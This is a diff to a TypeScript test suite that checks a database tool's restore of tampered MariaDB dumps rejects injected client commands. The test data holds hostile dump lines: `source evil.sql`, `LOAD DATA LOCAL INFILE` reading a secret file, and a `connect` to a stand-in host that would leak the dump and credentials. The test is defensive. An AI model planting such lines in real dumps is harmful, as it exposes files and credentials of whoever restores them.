@@ -11,6 +11,7 @@ import assert from 'node:assert/strict';
 import { existsSync, readdirSync } from 'node:fs';
 import { chmod, mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
 import * as path from 'node:path';
+import { createServer } from 'node:net';
 import Database from 'better-sqlite3';
 import { HoardError } from '../../src/core/index.js';
 import { ENGINES, parseDatabaseUrl } from '../../src/databases/index.js';
@@ -204,7 +205,13 @@ describe('tampered MariaDB dumps', () => {
       [[`tee ${m('tee')}`, 'SELECT 1;'], /run a client command at line (\d+) \(`tee /],
       [[`source ${m('evil.sql')}`], /run a client command at line (\d+) \(`source /],
       [[`LOAD DATA LOCAL INFILE '${secret}' INTO TABLE leak;`], /read a file of this host \(LOAD DATA LOCAL INFILE\) at line (\d+) \(`LOAD DATA/],
+      // the sandbox alone lets `connect` through: the rest of the dump, user and password would go to that host
+      [[`connect ${db} 127.0.0.2`, 'SELECT 1;'], /run a client command at line (\d+) \(`connect /],
     ];
+    let dialled = 0;
+    const trap = createServer((s) => { dialled++; s.destroy(); });
+    await new Promise<void>((r) => trap.listen(3306, '127.0.0.2', r));
+    t.after(() => new Promise<void>((r) => trap.close(() => r())));
     for (const [lines, message] of attacks) {
       const { text, line } = inject(dump, /^UNLOCK TABLES;/, lines);
       await assert.rejects(ENGINES.mysql.restore(target, bytes(text), { format: 'sql', replace: true }), (e: unknown) => {
@@ -214,6 +221,7 @@ describe('tampered MariaDB dumps', () => {
       });
     }
     assert.deepEqual(readdirSync(dir).sort(), ['evil.sql', 'secret.txt'], 'no file was created or written');
+    assert.equal(dialled, 0, 'no connection to the host a dump names');
     assert.equal(await myExec(db, "SELECT COUNT(*) FROM information_schema.tables WHERE table_schema = DATABASE() AND table_name = 'sourced'"), '0');
     assert.equal(await myExec(db, 'SELECT COUNT(*) FROM leak'), '0', 'the server got nothing of the file');
     await ENGINES.mysql.restore(target, bytes(dump), { format: 'sql', replace: true });
